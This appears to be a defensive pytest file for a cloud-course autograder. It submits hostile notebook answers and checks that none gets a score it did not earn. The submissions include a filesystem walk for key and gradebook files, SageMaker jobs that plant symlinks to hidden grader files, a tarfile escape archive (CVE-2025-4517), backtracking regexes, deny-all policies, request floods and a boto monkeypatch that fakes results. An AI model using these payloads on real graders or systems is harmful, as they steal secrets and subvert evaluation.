"""Tests submissions that cheat through AWS: another AWS, a forged store, a job that searches the disk, policies that deny the grader."""

from __future__ import annotations

import ast
import json
import sys
from pathlib import Path

import nbformat
import pytest

import course
from course import canary
from course.sandbox.box import best_mode
from tests.grading.nbgrader_course import SEED, Course, answering

from ..batches.test_command import grade

pytestmark = [
    pytest.mark.timeout(1200),
    pytest.mark.skipif(best_mode() != "namespace", reason="no user namespaces on this machine, until 2027-05-24"),
]

LESSON, NOTEBOOK, EXERCISE = "m97_cloud", "m97_1_cloud", "m97_1_ex1"
RIGHT = 'bucket, key = aws.bucket, "greeting"\ns3.put_object(Bucket=bucket, Key=key, Body=b"hello")\n'
CLAIM = 'bucket, key = aws.bucket, "greeting"\n'

MOTO = (
    CLAIM
    + """
import os
from moto import mock_aws
mock_aws().start()
import boto3
fake = boto3.client("s3", region_name="us-east-1", endpoint_url=None)
try:
    fake.create_bucket(Bucket=bucket); fake.put_object(Bucket=bucket, Key=key, Body=b"hello")
except Exception as error:
    print(error)
"""
)
OTHER_AWS = (
    CLAIM
    + """
import os, pathlib, tempfile
from course.localaws.server import launch as server
os.environ["COURSE_LOCALAWS_STATE"] = tempfile.mkdtemp()
other = connect("m97_1")
other.client("s3").put_object(Bucket=bucket, Key=key, Body=b"hello")
"""
)
PATCHED = (
    CLAIM
    + """
import botocore.client, io
botocore.client.BaseClient._make_api_call = lambda self, name, parameters: dict(ContentLength=5, Body=io.BytesIO(b"hello"))
"""
)
STORE = (
    CLAIM
    + """
import os
found = []
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/usr") and name not in (".venv", "lib")]
    found += [os.path.join(folder, name) for name in files if name.endswith((".db", "keys.json", "server.log"))]
print("found", found)
"""
)
STEERS = (
    RIGHT
    + """
import pathlib
local, root = aws.local, "arn:aws:iam::123456789012:root"
for act in (local.reset, local.stop, lambda: local.issue(root), lambda: local.invite(pathlib.Path("x"))):
    try:
        act()
        print("it could")
    except Exception as error:
        print(error)
"""
)
CLOCK = RIGHT + "aws.local.advance(10 * 365 * 86400)\n"
DENIES = (
    RIGHT
    + """
iam = aws.client("iam")
deny = '{"Version": "2012-10-17", "Statement": [{"Effect": "Deny", "Action": "*", "Resource": "*"}]}'
s3.put_bucket_policy(Bucket=bucket, Policy=deny.replace('"Action"', '"Principal": "*", "Action"'))
for role in ("SageMakerRole", "Administrator"):
    iam.put_role_policy(RoleName=role, PolicyName="deny", PolicyDocument=deny)
"""
)
# A training job whose script searches for the grader's files, and leaves links to them where the local AWS reads.
SCRIPT = """
import os, socket, sys
found = []
for folder, _, files in os.walk("/"):
    if not folder.startswith(("/proc", "/sys", "/usr", sys.base_prefix)) and "/.venv" not in folder:
        found += [os.path.join(folder, name) for name in files if "hidden" in name or name in ("keys.json", "gradebook.db")]
print("FOUND", found)
for path in found:
    print(open(path, "rb").read()[-2000:])
for address in (("127.0.0.1", 22), ("192.0.2.1", 80)):
    try:
        socket.create_connection(address, 2)
        print("REACHED", address)
    except OSError as error:
        print(address, error)
os.makedirs("/opt/ml/output", exist_ok=True)
os.symlink("{course}/graders/m97_cloud/m97_1_hidden.py", "/opt/ml/output/failure")
os.symlink("{course}/graders", "/opt/ml/model/graders")
os.symlink("{course}/graders/m97_cloud/m97_1_hidden.py", "/opt/ml/model/hidden")
raise SystemExit(1)
"""
JOB = (
    RIGHT
    + f"""
script = {SCRIPT!r}
s3.put_object(Bucket=bucket, Key="code/look.py", Body=script)
image = aws.image("xgboost", "1.7-1")
channel = dict(ChannelName="code", DataSource=dict(S3DataSource=dict(S3DataType="S3Prefix", S3Uri=f"s3://{{bucket}}/code/")))
sagemaker, command = aws.client("sagemaker"), ["python3", "/opt/ml/input/data/code/look.py"]
sagemaker.create_training_job(
    TrainingJobName="look", RoleArn=aws.role, InputDataConfig=[channel], OutputDataConfig=dict(S3OutputPath=f"s3://{{bucket}}/out"),
    AlgorithmSpecification=dict(TrainingImage=image, TrainingInputMode="File", ContainerEntrypoint=command),
    ResourceConfig=dict(InstanceType="ml.m5.large", InstanceCount=1, VolumeSizeInGB=5), StoppingCondition=dict(MaxRuntimeInSeconds=60),
)
import time
while (job := sagemaker.describe_training_job(TrainingJobName="look"))["TrainingJobStatus"] == "InProgress":
    time.sleep(0.2)
print("REASON", job["FailureReason"])
for event in aws.client("logs").filter_log_events(logGroupName="/aws/sagemaker/TrainingJobs")["events"]:
    print(event["message"])
for stored in s3.list_objects_v2(Bucket=bucket, Prefix="out").get("Contents", []):
    print("STORED", stored["Key"], s3.get_object(Bucket=bucket, Key=stored["Key"])["Body"].read()[-3000:])
"""
)
# A job whose metric is found by an expression that backtracks for years: it must neither end nor outlive the grading.
BACKTRACKS = (
    RIGHT
    + """
image = "683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-scikit-learn:1.2-1-cpu-py3"
metrics = [dict(Name="slow", Regex="^(a+)+$"), dict(Name="loss", Regex="loss=([0-9.]+)")]
specification = dict(TrainingImage=image, TrainingInputMode="File", MetricDefinitions=metrics)
specification["ContainerEntrypoint"] = ["/bin/sh", "-c", "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa! loss=0.5"]
aws.client("sagemaker").create_training_job(
    TrainingJobName="slow", RoleArn=aws.role, OutputDataConfig=dict(S3OutputPath=f"s3://{bucket}/out"),
    AlgorithmSpecification=specification, StoppingCondition=dict(MaxRuntimeInSeconds=60),
    ResourceConfig=dict(InstanceType="ml.m5.large", InstanceCount=1, VolumeSizeInGB=5),
)
"""
)
# An archive of code that escapes the filter of Python's tarfile (CVE-2025-4517), to be unpacked outside all boxes: once by a link to a
# file, once by a link to a folder.
ARCHIVES = (
    RIGHT
    + """
import io, tarfile, time
long, steps, image = "d" * 247, "abcdefghijklmnop", "683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-scikit-learn:1.2-1-cpu-py3"
def packed(target, *more):
    members, path = [], ""
    for step in steps:
        members += [(path + long, tarfile.DIRTYPE, ""), (path + step, tarfile.SYMTYPE, long)]
        path += long + "/"
    far = "/".join(steps) + "/" + "l" * 254
    members += [(far, tarfile.SYMTYPE, "../" * len(steps)), ("escape", tarfile.SYMTYPE, far + "/" + "../" * 40 + target), *more]
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as tar:
        for name, kind, link in members:
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, link
            tar.addfile(member)
    return archive.getvalue()
file = packed("{course}/was_here.pth", ("door", tarfile.LNKTYPE, "escape"), ("door", tarfile.REGTYPE, ""))
folder = packed("{course}", ("escape/was_here.pth", tarfile.REGTYPE, ""))
for number, archive in enumerate((file, folder)):
    s3.put_object(Bucket=bucket, Key=f"code/{number}.tar.gz", Body=archive)
    parameters = dict(sagemaker_program="x.py", sagemaker_submit_directory=f"s3://{bucket}/code/{number}.tar.gz")
    job = dict(
        TrainingJobName=f"escape-{number}", RoleArn=aws.role, OutputDataConfig=dict(S3OutputPath=f"s3://{bucket}/out"),
        AlgorithmSpecification=dict(TrainingImage=image, TrainingInputMode="File"), HyperParameters=parameters,
        ResourceConfig=dict(InstanceType="ml.m5.large", InstanceCount=1, VolumeSizeInGB=5), StoppingCondition=dict(MaxRuntimeInSeconds=60),
    )
    aws.client("sagemaker").create_training_job(**job)
    while (found := aws.client("sagemaker").describe_training_job(TrainingJobName=f"escape-{number}"))["TrainingJobStatus"] == "InProgress":
        time.sleep(0.2)
    print("REASON", found["FailureReason"])
"""
)
# Two hosts. Each link stays in its own host's folder; in the merged folder, where `d` is the folder itself, it would climb to the root.
MEETING = """
import json, os
host = json.load(open("/opt/ml/input/config/resourceconfig.json"))["current_host"]
os.chdir("/opt/ml/model")
if host == "algo-1":
    os.symlink(".", "d")
else:
    secret = "{course}/graders/m97_cloud/m97_1_hidden.py"
    os.makedirs(os.path.dirname("/opt/ml" + secret))
    open("/opt/ml" + secret, "w").write("my own")
    for depth in range(4, 14):
        os.makedirs("d/" * depth, exist_ok=True)
        os.symlink("../" * (depth + 1) + secret.lstrip("/"), "d/" * depth + f"stolen{depth}")
"""
HOSTS = (
    RIGHT
    + f"""
import time
script = {MEETING!r}
s3.put_object(Bucket=bucket, Key="code/meet.py", Body=script)
channel = dict(ChannelName="code", DataSource=dict(S3DataSource=dict(S3DataType="S3Prefix", S3Uri=f"s3://{{bucket}}/code/")))
sagemaker, command = aws.client("sagemaker"), ["python3", "/opt/ml/input/data/code/meet.py"]
sagemaker.create_training_job(
    TrainingJobName="meet", RoleArn=aws.role, InputDataConfig=[channel],
    OutputDataConfig=dict(S3OutputPath=f"s3://{{bucket}}/out", CompressionType="NONE"),
    AlgorithmSpecification=dict(TrainingImage=aws.image("xgboost", "1.7-1"), TrainingInputMode="File", ContainerEntrypoint=command),
    ResourceConfig=dict(InstanceType="ml.m5.large", InstanceCount=2, VolumeSizeInGB=5), StoppingCondition=dict(MaxRuntimeInSeconds=60),
)
while (job := sagemaker.describe_training_job(TrainingJobName="meet"))["TrainingJobStatus"] == "InProgress":
    time.sleep(0.2)
print("STATUS", job["TrainingJobStatus"])
for stored in s3.list_objects_v2(Bucket=bucket, Prefix="out").get("Contents", []):
    print("STORED", stored["Key"], s3.get_object(Bucket=bucket, Key=stored["Key"])["Body"].read()[-3000:])
"""
)
# An image whose folder of files is a link to this machine's: a job of it would see all that is there.
IMAGE = (
    RIGHT
    + """
import io, pathlib, tarfile
for name, target in (("files", "/"), ("files", "{course}"), ("packages", "{course}")):
    config = b'{"config": {"Env": [], "WorkingDir": "", "Entrypoint": null, "Cmd": ["ls", "/"]}, "from": "", "history": []}'
    with tarfile.open("body.tar", "w") as tar:
        member = tarfile.TarInfo("config.json")
        member.size = len(config)
        tar.addfile(member, io.BytesIO(config))
        link = tarfile.TarInfo(name)
        link.type, link.linkname = tarfile.SYMTYPE, target
        tar.addfile(link)
    try:
        print("UPLOADED", aws.local.upload_image(pathlib.Path("body.tar")))
    except Exception as error:
        print("REFUSED", error)
"""
)
# A wrong answer, and forty threads of simulations with long wildcards: it must not become *ungraded* because the grader waits too long.
FLOODS = (
    RIGHT.replace("hello", "farewell")
    + """
import json, threading
from botocore.config import Config
from botocore.exceptions import BotoCoreError, ClientError
iam = aws.boto.client("iam", config=Config(max_pool_connections=40, retries={"total_max_attempts": 1}))
resources = ["arn:aws:s3:::*" + "?" * 1000 + f"b{number}" for number in range(100)]
policy = json.dumps(dict(Version="2012-10-17", Statement=[dict(Effect="Allow", Action="s3:GetObject", Resource=resources)]))
arns = ["arn:aws:s3:::" + "a" * 2000 + str(number) for number in range(400)]
asked = dict(PolicyInputList=[policy], ActionNames=["s3:GetObject"], ResourceArns=arns)
def flood():
    while True:
        try:
            iam.simulate_custom_policy(**asked)
        except (BotoCoreError, ClientError):
            pass
flooding = [threading.Thread(target=flood, daemon=True) for _ in range(40)]
for each in flooding:
    each.start()
import time
time.sleep(2)
print("FLOODING", sum(each.is_alive() for each in flooding))
"""
)
# It shows the places that it sees, and errors of the local AWS itself, of the course and of Python.
PLACES = (
    RIGHT
    + """
import os, sys, traceback, course
print(course.__file__, sys.prefix, sys.path, os.getcwd(), dict(os.environ))
fails_inside = dict(QueueName="q", Attributes=dict(DelaySeconds="soon"))
acts = (
    lambda: aws.client("sqs").create_queue(**fails_inside),
    lambda: s3.put_bucket_policy(Bucket=bucket, Policy="[" * 50_000),
    lambda: aws.local.advance(1e300),
)
for act in acts:
    try:
        act()
    except Exception as error:
        print("FAILED", error)
        traceback.print_exc()
s3.get_object(Bucket="no")
"""
)
AT_NIGHT = ("mocks_aws", "moves_the_clock", "denies_everybody")  # one of each kind runs by day
CORPUS = {
    "right": (RIGHT, 2.0),
    "mocks_aws": (MOTO, 0.0),
    "uses_another_local_aws": (OTHER_AWS, 0.0),
    "patches_boto": (PATCHED, 0.0),
    "looks_for_the_store": (STORE, 0.0),
    "steers_the_local_aws": (STEERS, 2.0),
    "moves_the_clock": (CLOCK, 2.0),
    "denies_everybody": (DENIES, 2.0),
    "has_a_job_look_around": (JOB, 2.0),
    "claims_anothers_work": (CLAIM, 0.0),
    "sends_an_expression_that_backtracks": (BACKTRACKS, 2.0),
    "hands_a_job_archives_that_escape": (ARCHIVES, 2.0),
    "has_links_of_two_hosts_meet": (HOSTS, 2.0),
    "makes_an_image_of_this_machine": (IMAGE, 2.0),
    "shows_where_it_is": (PLACES, 2.0),
    "floods_with_simulations": (FLOODS, 1.0),
}


@pytest.fixture(scope="module")
def attacked(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Course:
    """A graded class of the attackers that this run chose."""
    chosen = {item.callspec.params.get("name") for item in request.session.items if hasattr(item, "callspec")}
    course = Course(tmp_path_factory.mktemp("hostile-cloud") / "course", LESSON, NOTEBOOK)
    course.release()
    for name, (answer, _) in CORPUS.items():
        if name in chosen or name not in AT_NIGHT:
            course.submit(name, answering(ex1=answer.replace("{course}", str(course.root))))
    grade(course, LESSON, "--jobs", "2", "--no-gradebook")
    return course


def result(course: Course, name: str) -> dict:
    return json.loads((course.root / "results" / LESSON / name / f"{NOTEBOOK}.json").read_text())


@pytest.mark.parametrize("name", [pytest.param(name, marks=pytest.mark.nightly) if name in AT_NIGHT else name for name in CORPUS])
def test_a_hostile_submission_gets_the_score_of_its_real_work(attacked: Course, name: str) -> None:
    found = result(attacked, name)
    assert found["exercises"][EXERCISE]["score"] == CORPUS[name][1], found


def test_no_attack_found_a_secret(attacked: Course) -> None:
    for path in (attacked.root / "results").rglob("*"):
        if path.is_file():
            text = path.read_text(errors="replace")
            assert [
                secret for secret in (SEED, canary.TOKEN, "does not greet") if secret in text and "does not greet" not in secret
            ] == [], path


def printed(course: Course, name: str) -> str:
    """The text that a submission's cells printed."""
    notebook = nbformat.read(course.root / "results" / LESSON / name / f"{NOTEBOOK}.ipynb", as_version=4)
    return "".join(output.get("text", "") for each in notebook.cells for output in each.get("outputs", ()))


def test_the_store_is_out_of_reach(attacked: Course) -> None:
    """The submission finds only the keys that it was given."""
    [line] = [line for line in printed(attacked, "looks_for_the_store").splitlines() if line.startswith("found ")]
    [keys] = ast.literal_eval(line.removeprefix("found "))
    assert keys.endswith("/aws/keys.json")


def test_a_submission_cannot_control_its_local_aws(attacked: Course) -> None:
    said = printed(attacked, "steers_the_local_aws")
    assert said.count("is not for guests of this local AWS") == 4 and "it could" not in said


def test_a_job_sees_no_more_than_its_own(attacked: Course) -> None:
    said = printed(attacked, "has_a_job_look_around")
    assert "FOUND []" in said and "REASON AlgorithmError: , exit code: 1" in said
    assert "REACHED" not in said and "STORED" not in said


def test_no_archive_was_unpacked_outside_a_box(attacked: Course) -> None:
    said = printed(attacked, "hands_a_job_archives_that_escape")
    assert said.count("cannot be unpacked") == 2
    assert not list(attacked.root.rglob("was_here*"))


def test_links_of_two_hosts_lead_to_no_hidden_check(attacked: Course) -> None:
    said = printed(attacked, "has_links_of_two_hosts_meet")
    assert "STATUS Completed" in said and "STORED" not in said


def test_no_image_shows_this_machine(attacked: Course) -> None:
    said = printed(attacked, "makes_an_image_of_this_machine")
    assert said.count("this is not the body of an image") == 3 and "UPLOADED" not in said


def test_a_flood_of_simulations_changes_no_score(attacked: Course) -> None:
    assert "FLOODING 40" in printed(attacked, "floods_with_simulations")
    assert result(attacked, "floods_with_simulations")["exercises"][EXERCISE]["fault"] == ""


def test_no_output_says_where_things_lie_on_this_machine(attacked: Course) -> None:
    said = printed(attacked, "shows_where_it_is")
    assert said.count("FAILED") == 3 and "log has the details" in said and "the clock only moves forward" in said
    places = (str(attacked.root), str(Path(course.__file__).parents[1]), sys.prefix, sys.base_prefix, "/local-aws-")
    for path in (attacked.root / "results").rglob("*.ipynb"):
        outputs = json.dumps([each.get("outputs") for each in nbformat.read(path, as_version=4).cells])
        assert [place for place in places if place in outputs] == [], path


def test_nothing_is_left_behind(attacked: Course) -> None:
    assert attacked.leftovers() == []
    assert not [path for path in Path(attacked.root / "graders").rglob("*") if path.is_symlink()]
